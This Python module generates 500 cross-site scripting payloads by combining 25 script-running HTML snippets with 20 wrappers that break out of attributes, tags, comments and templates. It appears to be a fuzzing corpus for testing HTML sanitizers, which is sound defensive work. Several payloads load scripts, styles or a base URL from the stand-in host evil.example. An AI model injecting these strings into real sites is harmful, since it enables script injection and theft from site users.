"""Five hundred ways to smuggle a script into a page, made of what runs and of what it may break out of."""

from itertools import product

RUNS = (
    "<script>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=alert({n})>",
    "<img src='//evil.example/{n}.png'>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<details open ontoggle=alert({n})>x</details>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<object data=data:text/html,<script>alert({n})</script>></object>",
    "<embed src=//evil.example/{n}.svg>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert({n})>x",
    "<x onanimationstart=alert({n}) style=animation-name:x>{{{{{n}*7}}}}",
)
BREAKS_OUT = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "</title>{0}",
    "</script>{0}",
    "</style>{0}",
    "</option></select>{0}",
    "</time></a></p>{0}",
    "-->{0}<!--",
    "]]>{0}",
    "<<{0}>>",
    "&lt;b&gt;{0}",
    "{{% endautoescape %}}{{{{ '{0}'|safe }}}}",
    '" autofocus onfocus=alert(0) x="{0}',
    "\u202e{0}\u202c",
    "\uff1cb\uff1e{0}",
    "<!--><b>{0}",
    "<p title='</p>{0}'>",
    "<noscript><p title='</noscript>{0}'>",
)
STRINGS = tuple(
    around.format(runs.format(n=number))
    for number, (runs, around) in enumerate(product(RUNS, BREAKS_OUT), start=1)
)
